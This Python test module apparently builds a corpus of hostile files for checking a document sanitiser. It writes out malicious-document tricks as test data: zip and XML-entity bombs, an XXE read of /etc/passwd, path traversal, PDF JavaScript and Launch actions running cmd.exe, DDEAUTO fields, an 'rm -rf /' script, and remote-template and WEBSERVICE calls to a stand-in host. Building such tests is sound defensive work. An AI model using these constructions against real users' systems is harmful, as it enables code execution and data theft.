"""A generated corpus of hostile files. Each says what it is and what may come of it: refused, or what must be gone."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from plejebro.documents.rules import Refusal
from tests.documents import makers
from tests.documents.makers import document_xml, docx, odf, office, packed, pdf, photo, rels, saved

EVIL = "http://ond.example/skabelon"


@dataclass(frozen=True)
class Hostile:
    """`refused`: the reasons that are right; empty means it may pass, but without any of `gone` in it."""

    name: str
    data: bytes
    refused: tuple[Refusal, ...] = ()
    gone: tuple[bytes, ...] = ()


def corpus() -> Iterator[Hostile]:
    """All of them."""
    yield from _strangers()
    yield from _archives()
    yield from _pictures()
    yield from _pdfs()
    yield from _office()
    yield from _opendocument()


def _strangers() -> Iterator[Hostile]:
    html = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    yield Hostile("empty.pdf", b"", (Refusal.EMPTY,))
    yield Hostile("html.jpg", html, (Refusal.WEB,))
    yield Hostile("html-utf16.jpg", b"\xff\xfe" + html.decode().encode("utf-16-le"), (Refusal.WEB,))
    yield Hostile("svg-script.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', (Refusal.WEB,))
    yield Hostile("svg-entities.png", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><svg/>', (Refusal.WEB,))
    yield Hostile("program.pdf", b"MZ\x90\x00" + bytes(200), (Refusal.UNKNOWN_TYPE,))
    yield Hostile("elf.docx", b"\x7fELF" + bytes(200), (Refusal.UNKNOWN_TYPE,))
    yield Hostile("script.pdf", b"#!/bin/sh\nrm -rf /\n", (Refusal.UNKNOWN_TYPE,))
    yield Hostile("zeros.jpg", bytes(100_000), (Refusal.UNKNOWN_TYPE,))
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    yield Hostile("old.doc", ole, (Refusal.OLD_OFFICE,))
    yield Hostile("password.docx", ole + "EncryptedPackage".encode("utf-16-le"), (Refusal.LOCKED,))
    yield Hostile("rtf.doc", rb"{\rtf1{\object\objdata 0105}}", (Refusal.UNKNOWN_TYPE,))
    yield Hostile("film.heic", b"\x00\x00\x00\x18ftypisom" + bytes(200), (Refusal.MEDIA,))
    yield Hostile("leading-html.pdf", html + b"%PDF-1.7\n", (Refusal.WEB,))


def _archives() -> Iterator[Hostile]:
    zeros = bytes(30 * 1024 * 1024)
    bomb = packed({"0": zeros})
    yield Hostile("plain.zip", packed({"a.txt": "a"}), (Refusal.ARCHIVE,))
    yield Hostile("42-style.docx", docx(**{f"word/b{n}.zip": bomb for n in range(4)}), (Refusal.ARCHIVE,))
    yield Hostile("high-ratio.docx", docx(**{"word/media/zeros.xml": zeros}), (Refusal.UNPACKS_TOO_BIG,))
    yield Hostile("ten-gigabytes.docx", _lying_size(docx(), 10 * 1024**3 - 1), (Refusal.UNPACKS_TOO_BIG,))
    yield Hostile("short-size.docx", _lying_size(docx(), 3), (Refusal.DAMAGED,))
    yield Hostile("entries.docx", docx(**{f"word/e{n}.xml": "" for n in range(3500)}), (Refusal.UNPACKS_TOO_BIG,))
    yield Hostile("nested.xlsx", office("xlsx", "<workbook/>", {"xl/a.xml": packed({"b": "c"})}), (Refusal.ARCHIVE,))
    yield Hostile("nested-gzip.odt", odf("odt", "", {"Pictures/a.png": b"\x1f\x8b" + bytes(99)}), (Refusal.ARCHIVE,))
    yield Hostile("climbing.docx", docx(**{"../../etc/cron.d/ond": "x"}), (Refusal.DAMAGED,))
    yield Hostile("absolute.docx", docx(**{"/etc/passwd": "x"}), (Refusal.DAMAGED,))
    yield Hostile("overlapping.docx", _overlapping(), (Refusal.UNPACKS_TOO_BIG, Refusal.DAMAGED))
    yield Hostile("truncated.docx", docx()[:-40], (Refusal.DAMAGED, Refusal.POLYGLOT))
    yield Hostile("comment.docx", docx() + b"%PDF-1.7 efter", (Refusal.DAMAGED, Refusal.POLYGLOT))
    yield Hostile("broken-deflate.docx", _broken_deflate(), (Refusal.DAMAGED,))


def _lying_size(data: bytes, size: int) -> bytes:
    """The table of contents promises `size` for word/document.xml."""
    place = data.rfind(b"word/document.xml") - 46
    assert data[place : place + 4] == b"PK\x01\x02"
    return data[: place + 24] + struct.pack("<L", size & 0xFFFFFFFF) + data[place + 28 :]


def _overlapping() -> bytes:
    """Many entries that all point at the same packed bytes (Fifield's bomb, small)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("[Content_Types].xml", "<Types/>" + " " * 900_000)
        first = target.infolist()[0]
        for number in range(2000):
            twin = zipfile.ZipInfo(f"word/{number}.xml")
            for field in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(twin, field, getattr(first, field))
            target.filelist.append(twin)
            target.NameToInfo[twin.filename] = twin
    return out.getvalue()


def _broken_deflate() -> bytes:
    data = bytearray(docx())
    place = data.find(b"word/document.xml") + len("word/document.xml")
    data[place : place + 8] = b"\xff" * 8
    return bytes(data)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack("!L", len(body)) + kind + body + struct.pack("!L", zlib.crc32(kind + body))


def _pictures() -> Iterator[Hostile]:
    many = (Refusal.TOO_MANY_PIXELS,)
    head = _chunk(b"IHDR", struct.pack("!LLBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    yield Hostile("flood.png", b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", zlib.compress(bytes(9999))), many)
    yield Hostile("flood.jpg", _resized(photo(), 65_000, 65_000), many)
    out = io.BytesIO()
    Image.new("1", (6000, 6000)).save(out, "PNG")
    yield Hostile("real-flood.png", out.getvalue(), many)
    text = _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80 * 1024 * 1024)))
    png = photo("PNG")
    yield Hostile("text-bomb.png", png[:33] + text + png[33:], (Refusal.DAMAGED, Refusal.TOO_HEAVY), (b"zTXt",))
    yield Hostile("truncated.jpg", photo(size=(400, 400))[:-200], (Refusal.DAMAGED,))
    yield Hostile("truncated.png", png[:-30], (Refusal.DAMAGED,))
    yield Hostile("only-head.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8 " + bytes(64), (Refusal.DAMAGED,))
    yield Hostile("only-head.heic", b"\x00\x00\x00\x18ftypheic" + bytes(64), (Refusal.DAMAGED,))
    yield Hostile("jpeg-zip.jpg", photo() + packed({"ond.js": "alert"}), gone=(b"PK\x03\x04", b"ond.js"))
    yield Hostile("jpeg-html.jpg", photo() + b"<script>alert(1)</script>", gone=(b"<script>",))
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "JPEG", comment=b"<?php system(1) ?><script>")
    yield Hostile("jpeg-php.jpg", out.getvalue(), gone=(b"<?php", b"<script"))
    yield Hostile("png-html.png", png[:33] + _chunk(b"tEXt", b"a\0<script>1</script>") + png[33:], gone=(b"<script",))
    yield Hostile("bad-profile.jpg", _with_profile(), gone=(b"ICC_PROFILE",))


def _resized(data: bytes, width: int, height: int) -> bytes:
    place = data.find(b"\xff\xc0")
    return data[: place + 5] + struct.pack("!HH", height, width) + data[place + 9 :]


def _with_profile() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "JPEG", icc_profile=b"\xff" * 300)
    return out.getvalue()


def _pdf(change: str) -> bytes:
    made = pdf()
    name, text, box, root = pikepdf.Name, pikepdf.String, pikepdf.Dictionary, made.Root
    script = made.make_indirect(box(S=name.JavaScript, JS=text("app.alert(1)")))
    launch = box(Type=name.Action, S=name.Launch, F=text("cmd.exe"))
    rect = pikepdf.Array([0, 0, 9, 9])

    def note(**keys: pikepdf.Object) -> None:
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(box(Type=name.Annot, Rect=rect, **keys))])

    if change == "open":
        root.OpenAction = script
    elif change == "names":
        root.Names = box(JavaScript=box(Names=pikepdf.Array([text("a"), script])))
    elif change == "page":
        made.pages[0].AA = box(O=script)
    elif change == "launch":
        note(Subtype=name.Link, A=launch)
    elif change == "chain":
        note(Subtype=name.Link, A=box(S=name.GoTo, D=text("x"), Next=launch))
    elif change == "attached":
        made.attachments["ond.exe"] = b"MZ-ond-fil"
    elif change == "note":
        stream = made.make_stream(b"MZ-ond-fil")
        note(Subtype=name.FileAttachment, FS=box(Type=name.Filespec, F=text("ond.exe"), EF=box(F=stream)))
    elif change == "form":
        field = made.make_indirect(box(FT=name.Tx, T=text("felt"), AA=box(K=script), A=box(S=name.SubmitForm, F=text("x"))))
        root.AcroForm = box(Fields=pikepdf.Array([field]), XFA=made.make_stream(b"<xfa>MZ-ond-fil</xfa>"))
    elif change == "uri":
        note(Subtype=name.Link, A=box(S=name.URI, URI=text("javascript:alert(1)")))
    elif change == "remote":
        note(Subtype=name.Link, A=box(S=name.GoToR, F=text("\\\\ond.example\\del"), D=text("a")))
    elif change == "outline":
        line = made.make_indirect(box(Title=text("Side 1"), A=launch))
        root.Outlines = made.make_indirect(box(First=line, Last=line, Count=1))
    elif change == "media":
        note(Subtype=name.RichMedia, RichMediaContent=box(Assets=made.make_stream(b"MZ-ond-fil")))
    return saved(made)


def _pdfs() -> Iterator[Hostile]:
    gone = (b"app.alert", b"cmd.exe", b"MZ-ond-fil", b"/Launch", b"/JavaScript", b"/SubmitForm", b"javascript:",
            b"ond.example", b"/GoToR", b"/EmbeddedFile", b"/XFA",
            b"/OpenAction", b"/RichMedia", b"/FileAttachment")  # fmt: skip
    for change in (
        "open",
        "names",
        "page",
        "launch",
        "chain",
        "attached",
        "note",
        "form",
        "uri",
        "remote",
        "outline",
        "media",
    ):
        yield Hostile(f"{change}.pdf", _pdf(change), gone=gone)
    yield Hostile("million-pages.pdf", _many_pages(), (Refusal.TOO_MANY_PAGES, Refusal.DAMAGED))
    yield Hostile("pages.pdf", saved(pdf(1001)), (Refusal.TOO_MANY_PAGES,))
    yield Hostile("loop.pdf", _page_loop(), (Refusal.DAMAGED, Refusal.TOO_MANY_PAGES))
    plain = saved(pdf())
    yield Hostile("html-inside.pdf", plain.replace(b"\n", b"\n<html><script>alert(1)</script>\n", 1), (Refusal.POLYGLOT,))
    yield Hostile("html-behind.pdf", plain + b"<html><script>alert(1)</script>", (Refusal.POLYGLOT,))
    yield Hostile("zip-behind.pdf", plain + packed({"ond.js": "x"}), (Refusal.POLYGLOT,))
    yield Hostile("truncated.pdf", plain[:60], (Refusal.DAMAGED,))
    yield Hostile("no-pages.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>", (Refusal.DAMAGED,))
    yield Hostile("deep.pdf", b"%PDF-1.4\n1 0 obj" + b"[" * 200_000 + b"endobj", (Refusal.DAMAGED, Refusal.TOO_HEAVY))
    out = io.BytesIO()
    pdf().save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    yield Hostile("password.pdf", out.getvalue(), (Refusal.LOCKED,))
    made = pdf()
    stream = made.make_stream(zlib.compress(bytes(60 * 1024 * 1024)))
    stream.Filter = pikepdf.Name.FlateDecode
    made.pages[0].Contents = stream
    yield Hostile("stream-bomb.pdf", saved(made), gone=(b"/Info",))


def _many_pages() -> bytes:
    """One page hung in the tree 10^6 times: six levels of ten children that are all the same."""
    made = pdf()
    node = made.pages[0].obj
    for level in range(1, 7):
        node = made.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=pikepdf.Array([node] * 10), Count=10**level)
        )
    made.Root.Pages = node
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def _page_loop() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>"
    )


def _office() -> Iterator[Hostile]:
    expansion = (
        '<!DOCTYPE a [<!ENTITY b "'
        + "ha" * 99
        + '">'
        + "".join(f'<!ENTITY b{n} "&b{n - 1 or ""};&b{n - 1 or ""};">' for n in range(1, 30))
    )
    yield Hostile("laughs.docx", office("docx", f"{expansion}]><w>&b29;</w>"), (Refusal.DAMAGED,))
    outside = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w>&b;</w>'
    yield Hostile("entity.docx", office("docx", outside), (Refusal.DAMAGED,))
    yield Hostile("laughs.xlsx", office("xlsx", f"{expansion}]><workbook>&b9;</workbook>"), (Refusal.DAMAGED,))
    yield Hostile("deep.docx", office("docx", "<w>" * 5000 + "</w>" * 5000), (Refusal.TOO_HEAVY,))
    settings = f'<w:settings xmlns:w="{makers.W}" xmlns:r="{makers.REL}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    template = {
        "word/_rels/document.xml.rels": rels(("rId1", "settings", "settings.xml")),
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": rels(("rId1", "attachedTemplate", EVIL)),
    }
    yield Hostile("template.docx", docx(**template), gone=(b"ond.example", b"attachedTemplate"))
    picture = {"word/_rels/document.xml.rels": rels(("rId1", "image", EVIL), ("rId2", "hyperlink", "file:///c:/ond"))}
    body = '<w:p><a:blip r:link="rId1"/><w:hyperlink r:id="rId2"><w:r><w:t>Tekst</w:t></w:r></w:hyperlink></w:p>'
    yield Hostile("tracking.docx", docx(body, **picture), gone=(b"ond.example", b"file:", b"r:link"))
    macro = {
        "word/_rels/document.xml.rels": rels(("rId1", "vbaProject", "vbaProject.bin")),
        "word/vbaProject.bin": b"ond-makro",
    }
    yield Hostile("macro.docx", docx(**macro), gone=(b"ond-makro", b"vbaProject"))
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Hostile("macro.docm", office("docx", document_xml(""), macro, kind), (Refusal.MACROS,))
    ole = {
        "word/_rels/document.xml.rels": rels(("rId1", "oleObject", "embeddings/o.bin"), ("rId2", "aFChunk", "a.html")),
        "word/embeddings/o.bin": b"MZ-ond-fil",
        "word/a.html": "<script>ond-fil</script>",
    }
    body = '<w:object><o:OLEObject r:id="rId1"/></w:object><w:altChunk r:id="rId2"/>'
    yield Hostile("embedded.docx", docx(body, **ole), gone=(b"ond-fil", b"OLEObject", b"altChunk"))
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
    dde = field.format(" DDEAUTO c:\\\\windows\\\\cmd.exe")
    yield Hostile("dde.docx", docx(dde), gone=(b"DDEAUTO", b"cmd.exe"))
    split = field.format("DD") + "<w:r><w:instrText>EAUTO cmd.exe</w:instrText></w:r>"
    yield Hostile("dde-split.docx", docx(split), gone=(b"EAUTO", b"cmd.exe"))
    simple = f'<w:fldSimple w:instr="INCLUDEPICTURE {EVIL}"/><v:imagedata src="{EVIL}"/>'
    yield Hostile("include.docx", docx(simple), gone=(b"ond.example",))
    sheet = {
        "xl/_rels/workbook.xml.rels": rels(
            ("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", "externalLink", "externalLinks/e.xml")
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet><c><f>WEBSERVICE("{EVIL}")</f><v>1</v></c>'
        "<c><f>cmd|'/c'!A0</f></c></worksheet>",
        "xl/externalLinks/e.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    }
    book = f'<workbook xmlns:r="{makers.REL}"><sheets><sheet r:id="rId1"/></sheets><externalReferences/></workbook>'
    yield Hostile("dde.xlsx", office("xlsx", book, sheet), gone=(b"ond.example", b"cmd", b"ddeLink", b"externalRef"))
    slide = {"ppt/_rels/presentation.xml.rels": rels(("rId1", "slide", "slides/s.xml")),
             "ppt/slides/s.xml": '<s><hlinkClick action="ppaction://program?cmd.exe"/></s>'}  # fmt: skip
    yield Hostile("program.pptx", office("pptx", "<p/>", slide), gone=(b"cmd.exe",))
    utf16 = document_xml("<w:p/>").encode("utf-16") + b"\x00\x3c"
    yield Hostile("utf16-rest.docx", office("docx", utf16.decode("utf-16", "ignore") + "<x>"), (Refusal.DAMAGED,))


def _opendocument() -> Iterator[Hostile]:
    scripts = (
        "<office:scripts><office:script>ond-makro</office:script></office:scripts>"
        '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:ond-makro"/>'
        "</office:event-listeners>"
        '<draw:object xlink:href="./Object 1"/><draw:image xlink:href="http://ond.example/a.png"/>'
        '<text:a xlink:href="file:///ond">tekst</text:a>'
    )
    extra: dict[str, str | bytes] = {"Basic/Standard/m.xml": "ond-makro", "Object 1/content.xml": "<a>ond-makro</a>"}
    yield Hostile("macro.odt", odf("odt", scripts, extra), gone=(b"ond-makro", b"ond.example", b"file:", b"Basic"))
    formula = "<table:table-cell table:formula=\"of:=DDE('cmd';'ond';'a')\"/><table:table-source xlink:href='file:///ond'/>"
    yield Hostile("dde.ods", odf("ods", formula), gone=(b"DDE", b"ond"))
    yield Hostile(
        "laughs.odt", odf("odt", "", {"content.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), (Refusal.DAMAGED,)
    )
    locked = {"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}
    yield Hostile("password.ods", odf("ods", "", locked), (Refusal.LOCKED,))
